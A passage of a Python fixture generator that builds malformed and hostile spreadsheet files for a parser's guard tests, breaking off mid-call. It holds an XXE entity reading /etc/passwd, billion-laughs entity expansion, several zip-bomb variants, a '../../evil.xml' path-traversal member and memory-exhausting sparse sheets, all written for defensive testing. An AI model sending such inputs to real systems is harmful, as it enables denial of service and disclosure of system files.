"""Build small broken and hostile input files for the guard tests (nothing large is committed).

Usage: python tests/make_hostile.py FOLDER    (or `build(folder)` from a test fixture)

Every file is made from scratch in well under a second in all; the largest is the
10,001-member zip (~1 MB). The "bombs" are small on disk: the declared-size bomb
lies in its headers, the ratio bomb is 20 MB of spaces compressed to ~20 KB, and the
sparse sheet is 1.5 KB. How real each fake is:

- encrypted.xlsx: a genuine Compound File (OLE2) with EncryptionInfo and
  EncryptedPackage streams, laid out as Office lays them (calamine recognises it and
  raises PasswordError); the "encrypted" bytes are random, so no tool can decrypt it.
- encrypted.xls: a genuine Compound File whose Workbook stream is BOF, FILEPASS, EOF
  (the records an RC4-encrypted .xls starts with); the rest of the stream is absent.
- the xlsx files written by hand carry only the parts a reader needs
  ([Content_Types].xml, rels, workbook.xml, worksheets); calamine reads them.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
import zlib
from datetime import date
from pathlib import Path

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)


def sheet_xml(cells: str, *, doctype: str = "") -> str:
    """A worksheet part around raw <row>/<c> markup."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
        f'<worksheet xmlns="{MAIN_NS}"><sheetData>{cells}</sheetData></worksheet>'
    )


def xlsx_parts(sheets: list[tuple[str, str]], *, workbook_pr: str = "", doctype: str = "") -> dict[str, str]:
    """The parts of a minimal xlsx: (sheet name, worksheet XML) in order.

    Sheet parts are deliberately numbered in reverse (sheet2.xml is the first sheet)
    so tests show that names come from the workbook, not from file names.
    """
    n = len(sheets)
    wb_sheets = "".join(
        f'<sheet name="{name}" sheetId="{i + 1}" r:id="rId{i + 1}"/>' for i, (name, _) in enumerate(sheets)
    )
    rels = "".join(
        f'<Relationship Id="rId{i + 1}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{n - i}.xml"/>'
        for i in range(n)
    )
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
            f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">{workbook_pr}<sheets>{wb_sheets}</sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{rels}</Relationships>"
        ),
    }
    for i, (_, xml) in enumerate(sheets):
        parts[f"xl/worksheets/sheet{n - i}.xml"] = xml
    return parts


def write_zip(path: Path, parts: dict[str, str | bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def raw_zip(entries: list[dict]) -> bytes:
    """A zip written byte by byte, so headers can say what the data is not.

    Each entry: name, data (the bytes as stored), method (0 stored / 8 deflate),
    crc, size (declared uncompressed size) and optionally offset_of (the index of an
    earlier entry whose local header this central entry should point at: overlap).
    """
    out = bytearray()
    central = bytearray()
    offsets: list[int] = []
    for i, e in enumerate(entries):
        name = e["name"].encode()
        if "offset_of" in e:
            offset = offsets[e["offset_of"]]
        else:
            offset = len(out)
            out += struct.pack(
                "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, e["method"], 0, 33,
                e["crc"], len(e["data"]), e["size"], len(name), 0,
            ) + name + e["data"]
        offsets.append(offset)
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, e["method"], 0, 33,
            e["crc"], len(e["data"]), e["size"], len(name), 0, 0, 0, 0, 0, offset,
        ) + name
    start = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), start, 0)
    return bytes(out)


def deflated(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def entry(name: str, data: bytes, *, size: int | None = None, crc_of: bytes | None = None) -> dict:
    return {
        "name": name,
        "data": deflated(data),
        "method": 8,
        "crc": zlib.crc32(crc_of if crc_of is not None else data),
        "size": len(data) if size is None else size,
    }


def cfb(streams: list[tuple[str, bytes]], *, mini: bool = False) -> bytes:
    """A version-3 Compound File (512-byte sectors) holding the given streams.

    Layout: sector 0 the FAT, then the directory, then each stream in its own chain.
    Streams are padded to 4,096 bytes so they live in regular sectors - or, with
    `mini`, kept small and packed into the mini stream (64-byte sectors, its own
    allocation table), as Office does for streams under 4,096 bytes. Directory entries
    are chained as right siblings in (length, upper-case name) order, the order the
    format requires.
    """
    sect_size, end, free, fatsect, nostream = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    if mini:
        assert all(len(d) < 4096 for _, d in streams)
        container, minifat, mini_starts = b"", [], []
        for _, data in streams:
            first = len(container) // 64
            k = max(1, -(-len(data) // 64))
            mini_starts.append(first)
            minifat += [first + j + 1 if j < k - 1 else end for j in range(k)]
            container += data.ljust(k * 64, b"\0")
        blobs = [container, struct.pack(f"<{128}I", *(minifat + [free] * (128 - len(minifat))))]
    else:
        streams = [(n, d.ljust(4096, b"\0")) for n, d in streams]
        blobs = [d for _, d in streams]
    n_dir_sect = -(-(1 + len(streams)) * 128 // sect_size)
    sect = 1 + n_dir_sect
    starts, lengths = [], []
    for data in blobs:
        k = -(-len(data) // sect_size)
        starts.append(sect)
        lengths.append(k)
        sect += k
    assert sect <= 128, "one FAT sector only"
    fat = [free] * 128
    fat[0] = fatsect
    for i in range(n_dir_sect):
        fat[1 + i] = 2 + i if i < n_dir_sect - 1 else end
    for st, k in zip(starts, lengths):
        for j in range(k):
            fat[st + j] = st + j + 1 if j < k - 1 else end

    def dirent(name: str, kind: int, start: int, size: int, child: int = nostream, right: int = nostream) -> bytes:
        raw = (name + "\0").encode("utf-16-le") if name else b""
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(raw), kind, 1, nostream, right, child)
            + b"\0" * 36
            + struct.pack("<IQ", start, size)
        )

    order = sorted(range(len(streams)), key=lambda i: (len(streams[i][0]), streams[i][0].upper()))
    ents = [b""] * len(streams)
    for pos, i in enumerate(order):
        right = order[pos + 1] + 1 if pos + 1 < len(order) else nostream
        start = mini_starts[i] if mini else starts[i]
        ents[i] = dirent(streams[i][0], 2, start, len(streams[i][1]), right=right)
    root_start, root_size = (starts[0], len(blobs[0])) if mini else (end, 0)
    directory = dirent("Root Entry", 5, root_start, root_size, child=order[0] + 1) + b"".join(ents)
    while len(directory) < n_dir_sect * sect_size:
        directory += dirent("", 0, 0, 0)
    first_minifat, n_minifat = (starts[1], 1) if mini else (end, 0)
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, first_minifat, n_minifat, end, 0)
        + struct.pack("<109I", 0, *([free] * 108))
    )
    out = header + struct.pack("<128I", *fat) + directory
    for data in blobs:
        out += data.ljust(-(-len(data) // sect_size) * sect_size, b"\0")
    return out


def biff(rtype: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", rtype, len(data)) + data


BIFF8_BOF = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0006))
# BOF, FILEPASS (RC4 encryption header), EOF: how an encrypted .xls stream begins
ENCRYPTED_BIFF = BIFF8_BOF + biff(0x002F, struct.pack("<HHH", 1, 1, 1) + bytes(48)) + biff(0x000A)


def ods(path: Path, table_body: str, name: str = "Data", doctype: str = "") -> Path:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="{name}">{table_body}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return path


def ods_cell(value: float) -> str:
    return (
        f'<table:table-cell office:value-type="float" office:value="{value}">'
        f"<text:p>{value}</text:p></table:table-cell>"
    )


def _row(r: int, *cells: str) -> str:
    return f'<row r="{r}">{"".join(cells)}</row>'


def _num(ref: str, value: float | int) -> str:
    return f'<c r="{ref}"><v>{value}</v></c>'


def _text(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
    '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
    '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
    '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
    '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>'
)
XXE = '<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

DATA_ROWS = _row(1, _text("A1", "Force"), _text("B1", "2022"), _text("C1", "2023")) + _row(
    2, _text("A2", "Kent Police"), _num("B2", 120), _num("C2", 150)
)


def build(folder: Path) -> dict[str, Path]:
    """Write every fixture into `folder`; return {fixture name: path}."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    rng = random.Random(8)  # fixed seed: the same bytes every run

    def put(name: str, data: bytes | str, encoding: str = "utf-8") -> None:
        path = folder / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
        out[name] = path

    def put_zip(name: str, parts: dict[str, str | bytes]) -> None:
        out[name] = write_zip(folder / name, parts)

    # --- real, good workbooks (the baseline every check must pass) ---------------------
    import openpyxl
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Stop and search"
    ws.append(["Force", "2022", "2023"])
    for i in range(60):
        ws.append([f"Force {i}", 100 + i, 200 + 2 * i])
    good = folder / "good.xlsx"
    wb.save(good)
    out["good.xlsx"] = good

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(["Force", "Period start", "Count"])
    ws.append(["Kent Police", date(2020, 4, 1), 7])
    wb.epoch = CALENDAR_MAC_1904
    wb.save(folder / "date1904.xlsx")
    out["date1904.xlsx"] = folder / "date1904.xlsx"

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    ws["A1"], ws["A2"], ws["A3"] = 5, 7, "=A1+A2"
    wb.save(folder / "openpyxl_formula.xlsx")
    out["openpyxl_formula.xlsx"] = folder / "openpyxl_formula.xlsx"

    put_zip("handmade.xlsx", xlsx_parts([("Arrests", sheet_xml(DATA_ROWS))]))
    out["good.ods"] = ods(folder / "good.ods", "<table:table-row>" + ods_cell(1) + ods_cell(2) + "</table:table-row>")

    try:  # a real BIFF8 .xls needs xlwt (a dev dependency); skip it when absent
        import xlwt

        for name, mode in (("good.xls", False), ("date1904.xls", True)):
            book = xlwt.Workbook()
            book.dates_1904 = mode
            sh = book.add_sheet("Data")
            sh.write(0, 0, "Period start")
            sh.write(0, 1, "Count")
            sh.write(1, 0, date(2020, 4, 1), xlwt.easyxf(num_format_str="yyyy-mm-dd"))
            sh.write(1, 1, 7)
            book.save(str(folder / name))
            out[name] = folder / name
    except ImportError:
        pass

    # --- broken ---------------------------------------------------------------------------
    put("empty.xlsx", b"")
    put("empty.csv", b"")
    put("random.xlsx", b"\x13\x37" + bytes(rng.randrange(256) for _ in range(4094)))
    put("truncated.xlsx", good.read_bytes()[: good.stat().st_size // 2])
    put("pdf.xlsx", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    put("png.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(64))
    put_zip("word.xlsx", {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
    put_zip("photos.zip.xlsx", {"a.jpg": b"\xff\xd8\xff", "b.jpg": b"\xff\xd8\xff"})
    put(
        "page.xls",
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:x="urn:schemas-microsoft-com:office:excel">\r\n<head><meta charset="utf-8"></head>'
        "<body><table><tr><td>Force</td><td>2023</td></tr><tr><td>Kent</td><td>150</td></tr>"
        "</table></body></html>\r\n",
    )
    put(
        "xml2003.xls",
        '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Data"><Table>'
        '<Row><Cell><Data ss:Type="String">Force</Data></Cell></Row></Table></Worksheet></Workbook>\n',
    )
    put("binary.csv", bytes(rng.randrange(256) for _ in range(2048)))
    put("csv_named.xls", "Force,2023\r\nKent Police,150\r\n")  # read as text: .xls exports can be CSV
    put("text_named.xlsx", "Force,2023\r\nKent Police,150\r\n")  # refused: an .xlsx is never text
    put(
        "encrypted.xlsx",
        cfb([
            ("EncryptionInfo", struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'),
            ("EncryptedPackage", struct.pack("<Q", 6000) + bytes(rng.randrange(256) for _ in range(6000))),
        ]),
    )
    put("encrypted.xls", cfb([("Workbook", ENCRYPTED_BIFF)]))
    put("word97.xls", cfb([("WordDocument", bytes(4096))]))
    # small streams live in the mini stream: the same FILEPASS, found through it
    put("encrypted_mini.xls", cfb([("Workbook", ENCRYPTED_BIFF), ("SummaryInformation", bytes(200))], mini=True))
    put("mini.xls", cfb([("Workbook", BIFF8_BOF + biff(0x0022, struct.pack("<H", 1)) + biff(0x000A))], mini=True))
    put("truncated_ole.xls", cfb([("Workbook", BIFF8_BOF + biff(0x000A))])[:700])

    # workbooks that are fine for the guard but not tables (the detect step's cases)
    put_zip("empty_sheet.xlsx", xlsx_parts([("Sheet1", sheet_xml(""))]))
    put_zip(
        "refusal_letter.xlsx",
        xlsx_parts([("Response", sheet_xml(
            _row(1, _text("A1", "Dear requester,"))
            + _row(3, _text("A3", "We are unable to provide this information under section 12 of the FOI Act."))
        ))]),
    )
    # dates as text, as bare serial numbers and as real (styled) dates, side by side
    put_zip(
        "dates_mixed.xlsx",
        xlsx_parts([("Data", sheet_xml(
            _row(1, _text("A1", "01/04/2020"), _num("B1", 43922), _text("C1", "April 2020"))
        ))]),
    )

    # --- formulas without saved values -----------------------------------------------------
    put_zip(
        "formula_nocache.xlsx",
        xlsx_parts([
            ("Data", sheet_xml(
                _row(1, _num("A1", 5), '<c r="B1"><f>A1*2</f></c>', '<c r="C1"><f>A1*3</f><v></v></c>',
                     '<c r="D1" t="str"><f>"x"</f><v>x</v></c>', '<c r="E1"><f>A1+1</f><v>6</v></c>',
                     '<c r="F1" t="str"><f>""</f><v></v></c>')
            )),
            ("Arrests 2023", sheet_xml(
                _row(1, _num("A1", 1), '<c r="B1"><f t="shared" ref="B1:B3" si="0">A1*2</f><v>2</v></c>')
                + _row(2, _num("A2", 2), '<c r="B2"><f t="shared" si="0"/></c>')
                + '<row><c><v>3</v></c><c><f t="shared" si="0"/><v /></c></row>'
            )),
        ]),
    )
    put_zip(
        "formula_cached.xlsx",
        xlsx_parts([("Data", sheet_xml(_row(1, _num("A1", 5), '<c r="B1"><f>A1*2</f><v>10</v></c>')))]),
    )

    # --- hostile: XML entities -------------------------------------------------------------
    put_zip("billion_laughs.xlsx", xlsx_parts([("Data", sheet_xml(
        _row(1, '<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'), doctype=BILLION_LAUGHS))]))
    put_zip("xxe.xlsx", xlsx_parts([("Data", sheet_xml(DATA_ROWS))], doctype=XXE))
    # a DOCTYPE hidden by encoding a part as UTF-16 (in docProps/, where UTF-16 is allowed)
    core = ('<?xml version="1.0" encoding="UTF-16"?>\n' + BILLION_LAUGHS.replace("lolz", "cp:coreProperties")
            + '<cp:coreProperties xmlns:cp="urn:x">&lol9;</cp:coreProperties>')
    put_zip("utf16_doctype.xlsx", xlsx_parts([("Data", sheet_xml(DATA_ROWS))]) | {
        "docProps/core.xml": ("\ufeff" + core).encode("utf-16-le")})
    # a worksheet in UTF-16 (legal XML): calamine reads it as an empty sheet
    utf16 = sheet_xml(DATA_ROWS).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    put_zip("utf16_sheet.xlsx", xlsx_parts([("Data", "")]) | {
        "xl/worksheets/sheet1.xml": ("\ufeff" + utf16).encode("utf-16-le")})
    padded = sheet_xml(DATA_ROWS).replace("?>\n", "?>\n<!--" + "x" * 70_000 + "-->" + XXE, 1)
    put_zip("padded_doctype.xlsx", xlsx_parts([("Data", padded)]))
    out["billion_laughs.ods"] = ods(
        folder / "billion_laughs.ods", "<table:table-row>" + ods_cell(1) + "</table:table-row>",
        doctype=BILLION_LAUGHS.replace("lolz", "office:document-content"),
    )

    # --- hostile: zip bombs ----------------------------------------------------------------
    parts = xlsx_parts([("Data", sheet_xml(DATA_ROWS))])
    base = [entry(n, d.encode()) for n, d in parts.items() if n != "xl/worksheets/sheet1.xml"]
    sheet = sheet_xml(DATA_ROWS).encode()
    # headers claim 600 MB; the data is a few hundred bytes
    put("bomb_declared.xlsx", raw_zip(base + [entry("xl/worksheets/sheet1.xml", sheet, size=600 * 1024 * 1024)]))
    # honest headers: 20 MB of padding compresses ~1000:1
    big = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * (20 * 1024 * 1024), 1)
    put("bomb_ratio.xlsx", raw_zip(base + [entry("xl/worksheets/sheet1.xml", big)]))
    # lying headers: says 2 KB, really 20 MB (CRC of the first 2 KB, as a forger would)
    put("bomb_lying.xlsx", raw_zip(base + [entry("xl/worksheets/sheet1.xml", big, size=2048, crc_of=big[:2048])]))
    # one compressed kernel listed many times (overlapping entries)
    kernel = entry("xl/worksheets/sheet1.xml", sheet)
    put("bomb_overlap.xlsx", raw_zip(base + [kernel] + [
        dict(kernel, name=f"xl/worksheets/sheet{i}.xml", offset_of=len(base)) for i in range(2, 40)]))
    members = io.BytesIO()
    with zipfile.ZipFile(members, "w", zipfile.ZIP_STORED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        for i in range(10_001):
            zf.writestr(f"x/{i}", b"")
    put("bomb_members.xlsx", members.getvalue())
    put_zip("unsafe_name.xlsx", parts | {"../../evil.xml": "<x/>"})

    # --- hostile: enormous sheets that are tiny files --------------------------------------
    # calamine allocates the used rectangle (A1:XFD1048576 = 17 billion cells) and aborts
    put_zip("sparse.xlsx", xlsx_parts([("Data", sheet_xml(
        _row(1, _num("A1", 1)) + _row(1048576, _num("XFD1048576", 2))))]))
    # the same far corner holding only formatting (self-closing): harmless, must pass
    put_zip("styled_corner.xlsx", xlsx_parts([("Data", sheet_xml(
        DATA_ROWS + '<row r="1048576"><c r="XFD1048576" s="1"/></row>'))]))
    # r-less cells placed by a far row number
    put_zip("far_row.xlsx", xlsx_parts([("Data", sheet_xml(
        '<row r="1"><c r="XFD1"><v>1</v></c></row><row r="1048576"><c><v>2</v></c></row>'))]))
    # "1,048,576 rows of mostly nothing": one table, then formatting-only rows down to
    # Excel's last row (every 10th row, to stay small); must pass, and quickly
    put_zip("styled_rows.xlsx", xlsx_parts([("Data", sheet_xml(DATA_ROWS + "".join(
        f'<row r="{r}" s="1" customFormat="1"><c r="A{r}" s="1"/><c r="Z{r}" s="1"/></row>'
        for r in range(8, 1048577, 10)) + '<row r="1048576"><c r="XFD1048576" s="1"/></row>'))]))
    # ODS: one valued cell repeated 16,384 x 1,048,576 times
    ods(folder / "bomb_repeat.ods", '<table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" '
        'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>', name="Data")
    out["bomb_repeat.ods"] = folder / "bomb_repeat.ods"
    # LibreOffice's usual trailing empty repeats: must pass
    ods(folder / "trailing_repeat.ods", "<table:table-row>" + ods_cell(1) + ods_cell(2)
        + '<table:table-cell table:number-columns-repeated="16382"/></table:table-row>'
        '<table:table-row table:number-rows-repeated="1048575"><table:table-cell '
        'table:number-columns-repeated="16384"/></table:table-row>')
    out["trailing_repeat.ods"] = folder / "trailing_repeat.ods"

    # --- text files ------------------------------------------------------------------------
    put("bom.csv", "\ufeffForce,Count\r\nKent Police,120\r\n", "utf-8")
    put("cp1252.csv", 'Force,Cost,Note\r\nKent Police,"£1,200",Apr–Mar\r\n', "cp1252")
    put("utf16.csv", b"\xff\xfe" + "Force\tCount\r\nAvon & Somerset\t150\r\n".encode("utf-16-le"))
    put("utf16_nobom.csv", "Force,Count\nKent Police,120\n", "utf-16-le")
    put("cr_only.csv", "Force,Count\rKent Police,120\rEssex Police,98\r")
    put("mixed_endings.csv", 'Force,Count,Note\r\nKent Police,120,"two\nlines"\n'
        "Essex Police,98,x\rSurrey Police,7,y\r\n")
    put("ragged.csv", "Table 1: Arrests\nForce,2022,2023\nKent Police,120,150\nEssex Police,98\nSource: FOI 123/24\n")
    put("trailing_column.csv", "Force,2022,2023,\nKent Police,120,150,\nEssex Police,98,101,\n")
    put("empty_rows.csv", "Force,2022,2023\nKent Police,120,150\nEssex Police,98,101\n" + ",,,\n" * 5000)
    put("semicolon.csv", "Force;2022;2023\nKent Police;1,5;2,5\nEssex Police;3,25;4\n")
    # UTF-8 with one Windows-1252 en dash (0x96) pasted in
    put("mixed_utf8_cp1252.csv", "Force,Cost\nKent Police,£120\nEssex Police,£98\n".encode() + b"Surrey Police,\x96\n")
    put("truncated_utf8.csv", "Force,Cost\nKent Police,£120\nEssex,£".encode()[:-1])
    put("nul_padded.csv", b"Force,Count\nKent Police,120\n" + b"\x00" * 512)
    out.update(build_round_two(folder))
    return out


# --- round two (issue 17): xlsb records, far cells, NUL files, HTML fragments, hidden content ---


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b, n = n & 0x7F, n >> 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def brt(rtype: int, data: bytes = b"") -> bytes:
    """One xlsb record: type and length as 7-bit varints, then the body (MS-XLSB 2.1.4)."""
    return _varint(rtype) + _varint(len(data)) + data


def _wide(text: str) -> bytes:
    return struct.pack("<I", len(text)) + text.encode("utf-16-le")


def xlsb_real(col: int, value: float) -> bytes:
    return brt(0x05, struct.pack("<I", col) + bytes(4) + struct.pack("<d", value))


def xlsb_text(col: int, text: str) -> bytes:
    return brt(0x06, struct.pack("<I", col) + bytes(4) + _wide(text))


def xlsb_row(row: int, *cells: bytes, hidden: bool = False) -> bytes:
    return brt(0x00, struct.pack("<IIHBB", row, 0, 300, 0, 0x10 if hidden else 0) + bytes(5)) + b"".join(cells)


def xlsb_sheet(rows: bytes, dim: tuple[int, int, int, int] = (0, 1, 0, 1)) -> bytes:
    """BrtBeginSheet, BrtWsDim (first row, last row, first col, last col), the sheet data, the ends."""
    return brt(0x81) + brt(0x94, struct.pack("<IIII", *dim)) + brt(0x91) + rows + brt(0x92) + brt(0x82)


def write_xlsb(path: Path, sheets: list[tuple[str, int, bytes]]) -> Path:
    """A minimal .xlsb calamine reads: (name, visibility 0/1/2, sheet records) per sheet."""
    ct = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
        '<Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
        + "".join(f'<Override PartName="/xl/worksheets/sheet{i + 1}.bin" ContentType="application/vnd.ms-excel.worksheet"/>'
                  for i in range(len(sheets)))
        + "</Types>"
    )
    rels = ROOT_RELS.replace("xl/workbook.xml", "xl/workbook.bin")
    wrels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(f'<Relationship Id="rId{i + 1}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i + 1}.bin"/>'
                  for i in range(len(sheets)))
        + "</Relationships>"
    )
    book = brt(0x83) + brt(0x8F)
    for i, (name, state, _) in enumerate(sheets):
        book += brt(0x9C, struct.pack("<II", state, i + 1) + _wide(f"rId{i + 1}") + _wide(name))
    book += brt(0x90) + brt(0x84)
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": ct, "_rels/.rels": rels, "xl/workbook.bin": book, "xl/_rels/workbook.bin.rels": wrels,
    }
    parts.update({f"xl/worksheets/sheet{i + 1}.bin": data for i, (_, _, data) in enumerate(sheets)})
    return write_zip(path, parts)


XLSB_TABLE = xlsb_row(0, xlsb_text(0, "Force"), xlsb_text(1, "2023")) + xlsb_row(1, xlsb_text(0, "Kent Police"), xlsb_real(1, 150))


def _boundsheet(offset: int, name: str) -> bytes:
    return biff(0x0085, struct.pack("<IBB", offset, 0, 0) + bytes([len(name), 0]) + name.encode("latin-1"))


def biff_workbook(sheets: list[tuple[str, bytes]], globals_extra: bytes = b"") -> bytes:
    """A BIFF8 Workbook stream: globals (BOF, extras, BOUNDSHEETs, EOF), then each sheet's substream."""
    sheet_bof = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 0x0006))
    head = BIFF8_BOF + globals_extra
    offset = len(head) + sum(len(_boundsheet(0, n)) for n, _ in sheets) + 4
    bounds, bodies = b"", b""
    for name, records in sheets:
        bounds += _boundsheet(offset + len(bodies), name)
        bodies += sheet_bof + records + biff(0x000A)
    return head + bounds + biff(0x000A) + bodies


def biff_number(row: int, col: int, value: float) -> bytes:
    return biff(0x0203, struct.pack("<HHHd", row, col, 0, value))


def biff_label_table() -> bytes:
    """Force / 2023 over Kent Police / 150, as NUMBER and LABEL records."""
    def label(row: int, col: int, text: str) -> bytes:
        return biff(0x0204, struct.pack("<HHHHB", row, col, 0, len(text), 0) + text.encode("latin-1"))
    return label(0, 0, "Force") + label(0, 1, "2023") + label(1, 0, "Kent Police") + biff_number(1, 1, 150)


def build_round_two(folder: Path) -> dict[str, Path]:
    """Issue 17's fixtures (all small): see docs/reliability.md, "Round two"."""
    folder = Path(folder)
    out: dict[str, Path] = {}

    def put(name: str, data: bytes | str, encoding: str = "utf-8") -> None:
        path = folder / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
        out[name] = path

    # xlsb: a good one (with a hidden sheet and a hidden row), and the liars
    out["good.xlsb"] = write_xlsb(folder / "good.xlsb", [
        ("Data", 0, xlsb_sheet(XLSB_TABLE + xlsb_row(2, xlsb_text(0, "Essex Police"), xlsb_real(1, 7), hidden=True),
                               (0, 2, 0, 1))),
        ("Staff", 1, xlsb_sheet(xlsb_row(0, xlsb_text(0, "PC Smith"), xlsb_real(1, 4321)))),
    ])
    # a cell in column 4,294,967,280: calamine asked for 137 GB and aborted the process
    out["xlsb_far_column.xlsb"] = write_xlsb(folder / "xlsb_far_column.xlsb", [
